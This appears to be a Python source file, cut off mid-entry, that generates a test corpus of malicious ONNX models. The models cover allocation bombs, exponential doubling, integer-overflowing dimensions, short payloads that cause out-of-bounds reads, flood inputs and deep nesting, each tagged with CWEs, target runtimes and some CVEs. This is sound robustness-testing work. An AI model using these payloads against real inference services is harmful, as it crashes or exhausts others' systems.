"""Small models that make a program allocate or compute too much (bombs), overflow the stack or read out of bounds."""
# fmt: off

from __future__ import annotations

import struct

from .case import declare
from .writer import (
    BOOL,
    DOUBLE,
    FLOAT,
    INT4,
    INT64,
    STRING,
    UINT64,
    X,
    entry,
    external_pairs,
    function,
    graph,
    integer,
    integers,
    ints,
    model,
    model_with_extras,
    model_with_weight,
    network,
    node,
    opset,
    record,
    scalar,
    sparse,
    strings,
    tensor,
    tensor_type,
    typed,
    value,
    values,
)

RUNTIMES = "onnxruntime, onnx.reference, OpenVINO, TensorRT, constant folders"
HUGE = 1 << 34  # elements: 64 GiB of float
SIDE = 1 << 17  # HUGE = SIDE * SIDE
ONE = values(None, [1.0])


def fill_node(shape_name, output, constant=ONE):
    """Return a ConstantOfShape node."""
    return node("ConstantOfShape", [shape_name], [output], value=constant)


def sum_node(name):
    """Return the node that reduces `name` to the output y, so that the value `name` is used."""
    return node("ReduceSum", [name], ["y"], keepdims=0)


# Fill

attack = declare("bomb-fill", "resources", "An operator makes a tensor of any size from a few numbers.",
    "CWE-789", RUNTIMES)
attack("constant-of-shape", "ConstantOfShape makes 2^34 floats (64 GiB) from one int64.", network([fill_node("s", "c"),
    sum_node("c")], [ints("s", HUGE)]))
attack("constant-of-shape-rank-4", "ConstantOfShape makes 2^12 x 2^12 x 2^12 x 2^4 doubles.", network([fill_node("s",
    "c", values(None, [1.0], DOUBLE)), node("Cast", ["c"], ["f"], to=FLOAT), sum_node("f")], [ints("s", 4096, 4096,
    4096, 16)]))
attack("constant-of-shape-computed", "The shape is a product of constants: no single number in the file is large.",
    network([node("Mul", ["a", "a"], ["b"]), node("Mul", ["b", "b"], ["s"]), fill_node("s", "c"), sum_node("c")], [ints(
    "a", 512)]))
attack("constant-of-shape-concat", "The shape is the constant 512, concatenated four times.", network([node("Concat", [
    "a", "a", "a", "a"], ["s"], axis=0), fill_node("s", "c"), sum_node("c")], [ints("a", 512)]))
attack("constant-of-shape-pow", "The shape is 2 to the power 36.", network([node("Pow", ["a", "b"], ["s"]), fill_node(
    "s", "c"), sum_node("c")], [ints("a", 2), ints("b", 36)]))
attack("constant-of-shape-shift", "The shape is 1 shifted left by 36 bits.", network([node("BitShift", ["a", "b"],
    ["u"], direction="LEFT"), node("Cast", ["u"], ["s"], to=INT64), fill_node("s", "c"), sum_node("c")], [tensor("a", [
    1], UINT64, struct.pack("<Q", 1)), tensor("b", [1], UINT64, struct.pack("<Q", 36))]))
attack("constant-of-shape-of-size", "The shape is the declared shape of an input, 2^18 x 2^18.", network([node("Shape",
    ["x"], ["s"]), fill_node("s", "c"), sum_node("c")], inputs=[value("x", FLOAT, [1 << 18, 1 << 18])]))
attack("constant-of-shape-in-branch", "The bomb is in the branch of an If whose condition is constant.",
    network([node("If", ["t"], ["y"], then_branch=graph([fill_node("s", "c"), node("ReduceSum", ["c"], ["a"],
    keepdims=0)], [], [value("a")]), else_branch=graph([node("Identity", ["x"], ["b"])], [], [value("b")]))], [ints("s",
    HUGE), scalar("t", True, BOOL)]))
attack("constant-of-shape-in-function", "The bomb is in the body of a function.", network([node("F", ["s"], ["y"],
    domain="local")], [ints("s", HUGE)], opsets=(("", 21), ("local", 1)), functions=[function("F", [fill_node("a", "c"),
    node("ReduceSum", ["c"], ["b"], keepdims=0)], ["a"], ["b"])], rank=0))
attack("constant-of-shape-node-constant", "The shape is in a Constant node (value_ints).", network([node("Constant",
    [], ["s"], value_ints=[1 << 20, 1 << 16]), fill_node("s", "c"), sum_node("c")]))
attack("one-hot", "OneHot with a depth of 2^36.", network([node("OneHot", ["i", "d", "v"], ["o"]), sum_node("o")],
    [ints("i", 1), scalar("d", 1 << 36), values("v", [0.0, 1.0])]))
attack("eye-like", "EyeLike of an input declared as 2^18 x 2^18.", network([node("EyeLike", ["x"], ["o"],
    dtype=FLOAT), sum_node("o")], inputs=[value("x", FLOAT, [1 << 18, 1 << 18])]))
attack("random-normal", "RandomNormal with the attribute shape [2^34].", network([node("RandomNormal", [], ["o"],
    shape=[HUGE]), sum_node("o")]))
attack("random-uniform", "RandomUniform with the attribute shape [2^12, 2^12, 2^12].", network([node("RandomUniform",
    [], ["o"], shape=[4096, 4096, 4096]), sum_node("o")]))
attack("hann-window", "HannWindow of 2^36 samples.", network([node("HannWindow", ["n"], ["o"]), sum_node("o")],
    [scalar("n", 1 << 36)]))
attack("blackman-window", "BlackmanWindow of 2^35 samples.", network([node("BlackmanWindow", ["n"], ["o"]),
    sum_node("o")], [scalar("n", 1 << 35)]))
attack("mel-weight-matrix", "MelWeightMatrix with 2^18 bins and a DFT length of 2^19.",
    network([node("MelWeightMatrix", ["b", "d", "r", "l", "u"], ["o"]), sum_node("o")], [scalar("b", 1 << 18),
    scalar("d", 1 << 19), scalar("r", 44100), scalar("l", 0.0, FLOAT), scalar("u", 8000.0, FLOAT)]))
attack("multinomial", "Multinomial draws 2^31 samples.", network([node("Multinomial", ["p"], ["o"],
    sample_size=1 << 31), node("Cast", ["o"], ["f"], to=FLOAT), sum_node("f")], [values("p", [0.5, 0.5], FLOAT, [1,
    2])]))

# Broadcast

attack = declare("bomb-broadcast", "resources", "Small tensors are broadcast or repeated to a huge one.", "CWE-789",
    RUNTIMES)
attack("expand", "Expand of one float to 2^34.", network([node("Expand", ["one", "s"], ["o"]), sum_node("o")],
    [values("one", [1.0]), ints("s", HUGE)]))
attack("expand-steps", "Three Expand steps of 2^12 each.", network([node("Expand", ["one", "s1"], ["a"]),
    node("Expand", ["a", "s2"], ["b"]), node("Expand", ["b", "s3"], ["o"]), sum_node("o")], [values("one", [1.0], FLOAT,
    [1, 1, 1]), ints("s1", 4096, 1, 1), ints("s2", 1, 4096, 1), ints("s3", 1, 1, 4096)]))
attack("tile", "Tile repeats one float 2^34 times.", network([node("Tile", ["one", "s"], ["o"]), sum_node("o")],
    [values("one", [1.0]), ints("s", HUGE)]))
attack("tile-steps", "34 Tile steps, each of which doubles a tensor.", network([node("Tile", [f"t{i}", "two"],
    [f"t{i + 1}"]) for i in range(34)] + [sum_node("t34")], [values("t0", [1.0]), ints("two", 2)]))
attack("outer-product", "Mul of a column and a row of 2^17 each.", network([fill_node("s1", "a"), fill_node("s2", "b"),
    node("Mul", ["a", "b"], ["o"]), sum_node("o")], [ints("s1", SIDE, 1), ints("s2", 1, SIDE)]))
attack("outer-product-of-input", "Add of an input of 2^17 as a row and as a column.", network([node("Unsqueeze", ["x",
    "a0"], ["r"]), node("Unsqueeze", ["x", "a1"], ["c"]), node("Add", ["r", "c"], ["o"]), sum_node("o")], [ints("a0",
    0), ints("a1", 1)], inputs=[value("x", FLOAT, [SIDE])]))
attack("where", "Where broadcasts a condition of 2^17 rows with values of 2^17 columns.", network([fill_node("s1", "c",
    values(None, [True], BOOL)), fill_node("s2", "b"), node("Where", ["c", "b", "b"], ["o"]), sum_node("o")], [ints(
    "s1", SIDE, 1), ints("s2", 1, SIDE)]))
attack("matmul", "MatMul of 2^17 x 1 by 1 x 2^17.", network([fill_node("s1", "a"), fill_node("s2", "b"), node("MatMul",
    ["a", "b"], ["o"]), sum_node("o")], [ints("s1", SIDE, 1), ints("s2", 1, SIDE)]))
attack("gather", "Gather selects row 0 of a matrix 2^24 times; a row has 2^12 elements.", network([fill_node("s1", "a"),
    fill_node("s2", "i", values(None, [0], INT64)), node("Gather", ["a", "i"], ["o"]), sum_node("o")], [ints("s1", 1,
    4096), ints("s2", 1 << 24)]))
attack("einsum", "Einsum a,b,c,d->abcd of four vectors of 512.", network([fill_node("s", "v"), node("Einsum", ["v", "v",
    "v", "v"], ["o"], equation="a,b,c,d->abcd"), sum_node("o")], [ints("s", 512)]))
attack("pairwise-max", "Max of a column and a row of 2^17 each.", network([fill_node("s1", "a"), fill_node("s2", "b"),
    node("Max", ["a", "b"], ["o"]), sum_node("o")], [ints("s1", SIDE, 1), ints("s2", 1, SIDE)]))
attack("expand-in-scan", "A Scan of 2^12 steps stacks outputs of 2^22 floats.", network([fill_node("s", "seq"),
    node("Scan", ["seq"], ["o"], num_scan_inputs=1, body=graph([node("Expand", ["e", "m"], ["z"])], [value("e", FLOAT,
    [])], [value("z", FLOAT, [1 << 22])])), sum_node("o")], [ints("s", 4096), ints("m", 1 << 22)]))

# Sequences

attack = declare("bomb-range", "resources", "A range or a sequence has far more elements than the file has bytes.",
    "CWE-789", RUNTIMES)
attack("range", "Range from 0 to 2^35.", network([node("Range", ["a", "b", "c"], ["r"]), node("Cast", ["r"], ["f"],
    to=FLOAT), sum_node("f")], [scalar("a", 0), scalar("b", 1 << 35), scalar("c", 1)]))
attack("range-small-delta", "Range from 0 to 1 in steps of 1e-11.", network([node("Range", ["a", "b", "c"], ["r"]),
    node("Cast", ["r"], ["f"], to=FLOAT), sum_node("f")], [scalar("a", 0.0, DOUBLE), scalar("b", 1.0, DOUBLE),
    scalar("c", 1e-11, DOUBLE)]))
attack("range-negative", "Range from 2^35 down to 0.", network([node("Range", ["b", "a", "c"], ["r"]), node("Cast",
    ["r"], ["f"], to=FLOAT), sum_node("f")], [scalar("a", 0), scalar("b", 1 << 35), scalar("c", -1)]))
attack("range-zero-delta", "Range with a delta of zero: the division gives infinity.", network([node("Range", ["a",
    "b", "c"], ["r"]), node("Cast", ["r"], ["f"], to=FLOAT), sum_node("f")], [scalar("a", 0), scalar("b", 10),
    scalar("c", 0)]))
attack("range-overflow", "Range from -2^63 to 2^63 - 1: the difference overflows.", network([node("Range", ["a", "b",
    "c"], ["r"]), node("Cast", ["r"], ["f"], to=FLOAT), sum_node("f")], [scalar("a", -(1 << 63)), scalar("b",
    (1 << 63) - 1), scalar("c", 1)]))
attack("split-to-sequence", "SplitToSequence of 2^27 elements makes as many tensors.", network([fill_node("s", "v"),
    node("SplitToSequence", ["v"], ["q"], keepdims=0), node("SequenceLength", ["q"], ["n"]), node("Cast", ["n"],
    ["y"], to=FLOAT)], [ints("s", 1 << 27)], rank=0))
attack("range-of-range", "Range whose limit is the sum of another Range, some 2^35.", network([node("Range", ["a", "b",
    "c"], ["r"]), node("ReduceSum", ["r"], ["limit"], keepdims=0), node("Range", ["a", "limit", "c"], ["r2"]),
    node("Cast", ["r2"], ["f"], to=FLOAT), sum_node("f")], [scalar("a", 0), scalar("b", 1 << 18), scalar("c", 1)]))

# Resampling

attack = declare("bomb-resample", "resources", "Padding, scaling or another parameter makes an output of any size.",
    "CWE-789", RUNTIMES)
IMAGE = [value("x", FLOAT, [1, 1, 2, 2])]
attack("pad", "Pad adds 2^34 elements.", network([node("Pad", ["x", "p"], ["o"]), sum_node("o")], [ints("p", HUGE, 0)]))
attack("pad-rank-4", "Pad adds 2^17 on each side of an image.", network([node("Pad", ["x", "p"], ["o"]), sum_node("o")],
    [ints("p", 0, 0, SIDE, SIDE, 0, 0, SIDE, SIDE)], inputs=IMAGE))
attack("pad-attribute", "Pad of operator set 10 with pads in an attribute.", network([node("Pad", ["x"], ["o"],
    pads=[0, HUGE]), sum_node("o")], opsets=(("", 10),)))
attack("resize-sizes", "Resize of an image to 2^17 x 2^17.", network([node("Resize", ["x", "", "", "s"], ["o"]),
    sum_node("o")], [ints("s", 1, 1, SIDE, SIDE)], inputs=IMAGE))
attack("resize-scales", "Resize of an image by 65,536 in each direction.", network([node("Resize", ["x", "", "f"],
    ["o"]), sum_node("o")], [values("f", [1.0, 1.0, 65536.0, 65536.0])], inputs=IMAGE))
attack("upsample", "Upsample of operator set 9 by 65,536 in each direction.", network([node("Upsample", ["x", "f"],
    ["o"]), sum_node("o")], [values("f", [1.0, 1.0, 65536.0, 65536.0])], inputs=IMAGE, opsets=(("", 9),)))
attack("conv-pads", "Conv with pads of 2^17 on each side.", network([node("Conv", ["x", "k"], ["o"], kernel_shape=[1,
    1], pads=[SIDE] * 4), sum_node("o")], [values("k", [1.0], FLOAT, [1, 1, 1, 1])], inputs=IMAGE))
attack("conv-transpose-output-shape", "ConvTranspose with output_shape 2^17 x 2^17.", network([node("ConvTranspose",
    ["x", "k"], ["o"], output_shape=[SIDE, SIDE]), sum_node("o")], [values("k", [1.0], FLOAT, [1, 1, 1, 1])],
    inputs=IMAGE))
attack("conv-transpose-strides", "ConvTranspose with strides of 2^17.", network([node("ConvTranspose", ["x", "k"],
    ["o"], strides=[SIDE, SIDE]), sum_node("o")], [values("k", [1.0], FLOAT, [1, 1, 1, 1])], inputs=IMAGE))
attack("max-unpool", "MaxUnpool with an output shape of 2^17 x 2^17.", network([node("MaxUnpool", ["x", "i", "s"],
    ["o"], kernel_shape=[1, 1]), sum_node("o")], [values("i", [0, 1, 2, 3], INT64, [1, 1, 2, 2]), ints("s", 1, 1, SIDE,
    SIDE)], inputs=IMAGE))
attack("roi-align", "RoiAlign with an output of 2^17 x 2^17 per region.", network([node("RoiAlign", ["x", "r", "b"],
    ["o"], output_height=SIDE, output_width=SIDE), sum_node("o")], [values("r", [0.0, 0.0, 1.0, 1.0], FLOAT, [1, 4]),
    ints("b", 0)], inputs=IMAGE))
attack("roi-align-sampling", "RoiAlign with a sampling ratio of 2^30: time instead of memory.",
    network([node("RoiAlign", ["x", "r", "b"], ["o"], output_height=2, output_width=2, sampling_ratio=1 << 30),
    sum_node("o")], [values("r", [0.0, 0.0, 1.0, 1.0], FLOAT, [1, 4]), ints("b", 0)], inputs=IMAGE))
attack("max-roi-pool", "MaxRoiPool with a pooled shape of 2^17 x 2^17.", network([node("MaxRoiPool", ["x", "r"],
    ["o"], pooled_shape=[SIDE, SIDE]), sum_node("o")], [values("r", [0.0, 0.0, 0.0, 1.0, 1.0], FLOAT, [1, 5])],
    inputs=IMAGE))
attack("affine-grid", "AffineGrid for an image of 2^17 x 2^17.", network([node("AffineGrid", ["t", "s"], ["o"]),
    sum_node("o")], [values("t", [1.0, 0, 0, 0, 1.0, 0], FLOAT, [1, 2, 3]), ints("s", 1, 1, SIDE, SIDE)]))
attack("col2im", "Col2Im for an image of 2^17 x 2^17.", network([node("Col2Im", ["x", "s", "b"], ["o"]), sum_node("o")],
    [ints("s", SIDE, SIDE), ints("b", 1, 1)], inputs=[value("x", FLOAT, [1, 1, HUGE])]))
attack("center-crop-pad", "CenterCropPad to 2^34 elements.", network([node("CenterCropPad", ["x", "s"], ["o"]),
    sum_node("o")], [ints("s", HUGE)]))
attack("stft", "STFT with a step of 1 and a frame of 2^20 over a signal of 2^21.", network([fill_node("s", "v"),
    node("STFT", ["v", "one", "", "len"], ["o"]), sum_node("o")], [ints("s", 1, 1 << 21, 1), scalar("one", 1),
    scalar("len", 1 << 20)]))
attack("dft-length", "DFT padded to a length of 2^35.", network([node("DFT", ["v", "n"], ["o"]), sum_node("o")],
    [values("v", [1.0] * 4, FLOAT, [1, 4, 1]), scalar("n", 1 << 35)]))
attack("lstm-hidden-size", "LSTM whose weights come from ConstantOfShape, with a hidden size of 2^15.",
    network([fill_node("sw", "w"), fill_node("sr", "r"), node("LSTM", ["x", "w", "r"], ["o"], hidden_size=1 << 15),
    sum_node("o")], [ints("sw", 1, 1 << 17, 4), ints("sr", 1, 1 << 17, 1 << 15)], inputs=[value("x", FLOAT, [1, 1,
    4])]))

# Doubling

attack = declare("bomb-doubling", "resources", "Each step multiplies the size of a value, which grows exponentially.",
    "CWE-409", RUNTIMES)
STEPS = 36


def doubling_nodes(op, last_nodes, **attributes):
    """Return STEPS nodes, each of which joins a value (at first d0) with itself, and then `last_nodes`."""
    return [node(op, [f"d{i}", f"d{i}"], [f"d{i + 1}"], **attributes) for i in range(STEPS)] + last_nodes


attack("concat", "36 Concat steps, each of which doubles a tensor (billion laughs).", network(doubling_nodes("Concat",
    [sum_node(f"d{STEPS}")], axis=0), [values("d0", [1.0])]))
attack("string-concat", "36 StringConcat steps, each of which doubles a string.", network(doubling_nodes("StringConcat",
    [node("Identity", [f"d{STEPS}"], ["y"])]), [strings("d0", ["ha"])], outputs=[value("y", STRING, [None])]))
attack("concat-of-input", "36 Concat steps, the first of which doubles the input.", network([node("Concat",
    [f"d{i}" if i else "x"] * 2, [f"d{i + 1}"], axis=0) for i in range(STEPS)] + [sum_node(f"d{STEPS}")]))
attack("concat-of-eight", "12 Concat steps of eight inputs each.", network([node("Concat", [f"d{i}"] * 8,
    [f"d{i + 1}"], axis=0) for i in range(12)] + [sum_node("d12")], [values("d0", [1.0])]))
attack("concat-from-sequence",
    "12 steps of SequenceConstruct and ConcatFromSequence, each of which makes a tensor eight times as long.",
    network([step for i in range(12) for step in (node("SequenceConstruct", [f"d{i}"] * 8, [f"q{i}"]),
    node("ConcatFromSequence", [f"q{i}"], [f"d{i + 1}"], axis=0))] + [sum_node("d12")], [values("d0", [1.0])]))
attack("unknown-rank", "36 Concat steps double a value whose rank is unknown.", network([node("Unknown", ["x"],
    ["d0"], domain="local")] + doubling_nodes("Concat", [sum_node(f"d{STEPS}")], axis=1), opsets=(("", 21), ("local",
    1))))
attack("after-pool", "36 Concat steps double a value after GlobalAveragePool and Flatten.",
    network([node("GlobalAveragePool", ["x"], ["p"]), node("Flatten", ["p"], ["d0"])] + doubling_nodes("Concat",
    [sum_node(f"d{STEPS}")], axis=1), inputs=[value("x", FLOAT, ["n", 3, 8, 8])]))
attack("loop-scale", "A Loop of 400 iterations makes its state a tenth longer in each.", network([node("Loop", ["n",
    "", "d0"], ["d"], body=graph([node("Identity", ["c"], ["c2"]), node("Resize", ["v", "", "f"], ["v2"])],
    [value("i", INT64, []), value("c", BOOL, []), value("v", FLOAT, ["L"])], [value("c2", BOOL, []), value("v2", FLOAT,
    ["M"])])), node("Concat", ["d", "d"], ["e"], axis=0), sum_node("e")], [scalar("n", 400), values("d0", [1.0] * 16),
    values("f", [1.1])]))
attack("loop-concat", "A Loop doubles its state in each of 36 iterations.", network([node("Loop", ["n", "", "d0"],
    ["d"], body=graph([node("Identity", ["c"], ["c2"]), node("Concat", ["v", "v"], ["v2"], axis=0)], [value("i", INT64,
    []), value("c", BOOL, []), value("v", FLOAT, ["L"])], [value("c2", BOOL, []), value("v2", FLOAT, ["M"])])),
    sum_node("d")], [scalar("n", STEPS), values("d0", [1.0])]))
attack("outer-chain",
    "Each of five steps multiplies a tensor by itself along new axes: its rank doubles, its size is squared.",
    network([step for i in range(5) for step in (node("Unsqueeze", [f"d{i}", f"a{i}"], [f"e{i}"]), node("Unsqueeze",
    [f"d{i}", f"b{i}"], [f"f{i}"]), node("Mul", [f"e{i}", f"f{i}"], [f"d{i + 1}"]))] + [sum_node("d5")], [values("d0",
    [1.0, 1.0])] + [ints(f"a{i}", *range(1 << i)) for i in range(5)] + [ints(f"b{i}", *range(1 << i,
    2 << i)) for i in range(5)]))
attack("kronecker", "Reshape and Mul square the size of a vector six times.",
    network([step for i in range(6) for step in (node("Reshape", [f"d{i}", "col"], [f"c{i}"]), node("Mul", [f"c{i}",
    f"d{i}"], [f"m{i}"]), node("Reshape", [f"m{i}", "flat"], [f"d{i + 1}"]))] + [sum_node("d6")], [values("d0", [1.0,
    1.0]), ints("col", -1, 1), ints("flat", -1)]))

# Sparse tensors

attack = declare("sparse-bomb", "resources", "A sparse tensor of at most one value has a huge dense form.",
    "CWE-789", "onnxruntime, onnx, onnx.reference")
attack("initializer", "A sparse initializer of 2^17 x 2^17 with one value: onnxruntime makes it dense.",
    model_with_extras(sparse=[sparse("sp", [SIDE, SIDE], [1.0], [0])], nodes=[node("ReduceSum", ["sp"], ["z"])]))
attack("constant", "A Constant with a sparse_value of 2^36 elements.", network([node("Constant", [], ["c"],
    sparse_value=sparse(None, [1 << 36], [1.0], [5])), sum_node("c")]))
attack("dims-overflow", "The dims of a sparse tensor multiply to 2^64.", model_with_extras(sparse=[sparse("sp", [
    1 << 32, 1 << 32], [1.0], [0])], nodes=[node("ReduceSum", ["sp"], ["z"])]))
attack("no-values", "A sparse tensor with dims of 2^40 and no values.", model_with_extras(sparse=[sparse("sp", [
    1 << 40], [], [])], nodes=[node("ReduceSum", ["sp"], ["z"])]))
attack("in-function", "A sparse Constant of 2^36 elements in a function.", network([node("F", ["x"], ["y"],
    domain="local")], opsets=(("", 21), ("local", 1)), functions=[function("F", [node("Constant", [], ["c"],
    sparse_value=sparse(None, [1 << 36], [1.0], [5])), node("ReduceSum", ["c"], ["r"], keepdims=0), node("Add", ["a",
    "r"], ["b"])], ["a"], ["b"])]))

# Dimensions

attack = declare("dims-overflow", "resources",
    "Dims are negative, or their product overflows, so that a size check passes.", "CWE-190",
    "onnxruntime, onnx, OpenVINO, TensorRT, tract")
attack("product-is-zero", "An initializer of 2^32 x 2^32 elements with empty raw_data: the product is 0 in 64 bits.",
    model_with_extras([tensor("o", [1 << 32, 1 << 32], FLOAT, b"")]))
attack("product-is-four", "Dims whose product is 4 modulo 2^64.", model_with_weight(tensor("w", [(1 << 62) + 1, 4],
    FLOAT, struct.pack("<4f", 1, 2, 3, 4))))
attack("bytes-overflow", "2^61 doubles with empty raw_data: the size in bytes is 0 modulo 2^64.", model_with_extras([
    tensor("o", [1 << 61], DOUBLE, b"")]))
attack("two-negative", "Dims -2 and -2 multiply to the 4 elements present.", model_with_weight(tensor("w", [-2, -2],
    FLOAT, struct.pack("<4f", 1, 2, 3, 4))))
attack("negative", "A dimension of -1.", model_with_extras([tensor("o", [-1], FLOAT, b"")]))
attack("largest-int4", "2^63 - 1 elements of int4: rounding up to bytes overflows.", model_with_extras([tensor("o",
    [(1 << 63) - 1], INT4, b"\0")]))
attack("zero-hides-huge", "Dims 2^62, 2^62 and 0: the product overflows before the zero.",
    model_with_extras([tensor("o", [1 << 62, 1 << 62, 0], FLOAT, b"")]))
attack("product-32-bits", "Dims 65,536 x 65,536 with empty raw_data: the product is 0 in 32 bits.",
    model_with_extras([tensor("o", [65536, 65536], FLOAT, b"")]))
attack("input-shape", "The declared shape of an input multiplies to 2^64.", network([node("Size", ["x"], ["n"]),
    node("Cast", ["n"], ["y"], to=FLOAT)], inputs=[value("x", FLOAT, [1 << 32, 1 << 32])], rank=0))
attack("constant-of-shape", "ConstantOfShape with 2^32 x 2^32.", network([fill_node("s", "c"), sum_node("c")], [ints(
    "s", 1 << 32, 1 << 32)]))
attack("constant-of-shape-negative", "ConstantOfShape with -2^63.", network([fill_node("s", "c"), sum_node("c")], [ints(
    "s", -(1 << 63))]))
attack("reshape", "Reshape to 2^62 x 4 x 0.", network([node("Reshape", ["x", "s"], ["y"], allowzero=1)], [ints("s",
    1 << 62, 4, 0)]))
attack("external", "External data of 2^32 x 2^32 elements with length 0.", model_with_extras([external_pairs("o", [(
    "location", "empty.bin"), ("offset", 0), ("length", 0)], [1 << 32, 1 << 32])]), files={"empty.bin": b""})

attack = declare("payload-size", "resources",
    "A tensor's payload is shorter or longer than its shape requires: readers read out of bounds or ignore the rest.",
    "CWE-125", "onnxruntime, onnx, OpenVINO, tract, Netron")
attack("raw-short", "16 floats with 4 bytes of raw_data.", model_with_extras([tensor("o", [16], FLOAT, b"\0\0\0\0")]))
attack("raw-long", "One float with 4 KiB of raw_data.", model_with_extras([tensor("o", [1], FLOAT, bytes(4096))]))
attack("raw-odd", "Raw data of 7 bytes for 2 floats.", model_with_extras([tensor("o", [2], FLOAT, b"1234567")]))
attack("float-data-short", "A million floats with two elements of float_data.", model_with_extras([tensor("o", [
    1000000], FLOAT, None, record(4, bytes(8)))]))
attack("nothing", "A gigabyte of floats without any payload.", model_with_extras([tensor("o", [1 << 28], FLOAT)]))
attack("strings-short", "1,000 strings with one element of string_data.", model_with_extras([strings("o", ["only one"],
    [1000])]))
attack("scalar-with-tail", "A scalar with 1,000 elements of int64_data.", model_with_extras([tensor("o", [], INT64,
    None, integers(7, range(1000)))]))
attack("int4-odd", "Five int4 elements with two bytes.", model_with_extras([tensor("o", [5], INT4, b"\x12\x34")]))
attack("wrong-list", "A float tensor whose only payload is int64_data.", model_with_extras([tensor("o", [4], FLOAT,
    None, integers(7, [1, 2, 3, 4]))]))
attack("weight-short", "The weight that the graph uses has 4 elements and 4 bytes.", model_with_weight(tensor("w", [4],
    FLOAT, b"\0\0\0\0")))

attack = declare("rank-bomb", "resources",
    "A tensor has too many dimensions for loops over pairs of axes, recursion per axis, or arrays of fixed rank.",
    "CWE-400", "onnxruntime, onnx, numpy, Netron")
attack("initializer", "An initializer of rank 50,000, all dimensions 1.", model_with_extras([tensor("o", [1] * 50000,
    FLOAT, bytes(4))]))
attack("input", "An input of rank 20,000.", network([node("Flatten", ["x"], ["y"])], inputs=[value("x", FLOAT,
    [1] * 20000)]))
attack("reshape", "Reshape to rank 30,000.", network([node("Reshape", ["one", "s"], ["r"]), node("Transpose", ["r"],
    ["t"]), sum_node("t")], [values("one", [1.0]), ints("s", *[1] * 30000)]))
attack("unsqueeze", "Unsqueeze with 30,000 axes.", network([node("Unsqueeze", ["one", "a"], ["r"]), sum_node("r")],
    [values("one", [1.0]), ints("a", *range(30000))]))
attack("rank-65", "A tensor of rank 65: numpy allows at most 64.", model_with_extras([tensor("o", [1] * 65, FLOAT,
    bytes(4))]))

# Many small messages

attack = declare("message-flood", "resources",
    "Tens of thousands of tiny messages or strings: a few bytes each in the file, often hundreds in memory.", "CWE-400",
    "protobuf, onnx, onnxruntime, Netron")
N_ITEMS = 30000
MODEL_HEAD = integer(1, 10) + record(8, opset("", 21))
attack("nodes", "30,000 empty nodes.", MODEL_HEAD + record(7, record(1, b"") * N_ITEMS))
attack("initializers", "30,000 empty initializers.", MODEL_HEAD + record(7, record(5, b"") * N_ITEMS))
attack("metadata", "30,000 empty metadata entries.", model_with_extras(extra=record(14, b"") * N_ITEMS))
attack("functions", "30,000 empty functions.", model_with_extras(extra=record(25, b"") * N_ITEMS))
attack("opsets", "30,000 empty imports of operator sets.", model_with_extras(extra=record(8, b"") * N_ITEMS))
attack("attributes", "A node with 30,000 empty attributes.", network([node("Identity", ["x"], ["y"], extra=record(5,
    b"") * N_ITEMS)]))
attack("strings", "A string tensor of 40,000 empty strings.", model_with_extras([strings("o", [""] * 40000)]))
attack("inputs", "A node with 40,000 empty inputs.", network([node("Max", ["x"] + [""] * 40000, ["y"])]))
attack("interleaved-unknown", "20,000 unknown fields alternate with known ones: old protobuf-java spends minutes.",
    model(graph([node("Identity", ["x"], ["y"])], [X], [value("y", FLOAT, [4])]), extra=(integer(100, 1) + integer(5,
    1)) * 20000), cve="CVE-2021-22569", affects="protobuf-java")
attack("graph-records", "20,000 empty graph records, each of which is merged.", model_with_extras(extra=record(7,
    b"") * 20000))
attack("external-entries", "A tensor with 20,000 external_data entries.", model_with_weight(external_pairs("w", [(
    "location", "flood.bin")], extra=record(13, entry("x", "")) * 20000)), files={"flood.bin": bytes(16)})

# Nesting

attack = declare("deep-nesting", "resources",
    "Messages are nested so deeply that recursive readers overflow their stack.", "CWE-674",
    "protobuf, onnx, onnxruntime, Netron, recursive readers")


def nest_if(levels):
    """Return a model with an If, in whose then_branch `levels` more Ifs are nested."""
    branch = graph([node("Identity", ["x"], ["r"])], [], [value("r")])
    for _ in range(levels):
        branch = graph([node("If", ["c"], ["r"], then_branch=branch, else_branch=graph([node("Identity", ["x"],
            ["r2"])], [], [value("r2")]))], [], [value("r")])
    return network([node("If", ["c"], ["y"], then_branch=branch, else_branch=graph([node("Identity", ["x"], ["r2"])],
        [], [value("r2")]))], [scalar("c", True, BOOL)])


def nest(data, number, levels, wrap=record):
    """Return data nested in `levels` records. wrap: makes a record of a field number and the nested bytes."""
    for _ in range(levels):
        data = wrap(number, data)
    return data


attack("if-31", "31 Ifs nested in a branch of another, near protobuf's limit of 100 messages.", nest_if(31))
attack("if-400", "400 Ifs nested in a branch of another: protobuf refuses more than 100 messages.", nest_if(400))
# The bytes A3 06 and A4 06 are the start and the end of a group of field 100.
attack("groups-50000", "50,000 nested unknown groups.", model_with_extras(
    extra=b"\xa3\x06" * 50000 + b"\xa4\x06" * 50000), cve="CVE-2024-7254", affects="protobuf-java, recursive readers")
attack("groups-90", "90 nested unknown groups, within protobuf's limit.",
    model_with_extras(extra=b"\xa3\x06" * 90 + b"\xa4\x06" * 90), cve="CVE-2025-4565",
    affects="protobuf (pure Python), recursive readers")
attack("groups-unclosed", "50,000 groups that are never closed.", model_with_extras(extra=b"\xa3\x06" * 50000),
    cve="CVE-2024-7254")
attack("sequence-type-45", "The type of an input is a sequence of sequences, 45 levels.", network([node("Identity",
    ["x"], ["y"])], inputs=[X, typed("q", nest(tensor_type(), 4, 45, lambda n, d: record(n, record(1, d))))]))
attack("sequence-type-3000", "The type of an input is a sequence of sequences, 3,000 levels.",
    network([node("Identity", ["x"], ["y"])], inputs=[X, typed("q", nest(tensor_type(), 4, 3000, lambda n,
    d: record(n, record(1, d))))]))
attack("map-type-45", "The type of an input is a map of maps, 45 levels.", network([node("Identity", ["x"], ["y"])],
    inputs=[X, typed("q", nest(tensor_type(), 5, 45, lambda n, d: record(n, integer(1, INT64) + record(2, d))))]))
attack("optional-type-3000", "The type of an input is optional of optional, 3,000 levels.", network([node("Identity",
    ["x"], ["y"])], inputs=[X, typed("q", nest(tensor_type(), 9, 3000, lambda n, d: record(n, record(1, d))))]))
attack("unknown-records-4000", "An unknown field with 4,000 nested records: heuristic dumpers recurse.",
    model_with_extras(extra=record(200, nest(b"", 1, 4000))))
attack("attribute-graphs-400", "400 graphs, each of which is nested in the field graphs of an attribute.",
    network([node("Identity", ["x"], ["y"], extra=record(5, nest(b"", 11, 400, lambda n, d: record(n, record(1,
    record(5, d))))))]))

attack = declare("text-bomb", "resources",
    "A pattern, an equation or a string needs far more time or memory than its length suggests.", "CWE-1333",
    "onnx.reference, onnxruntime, onnxruntime-extensions, TensorRT")
attack("regex-nested-quantifier", "RegexFullMatch with (a+)+b: backtracking engines need 2^n steps.",
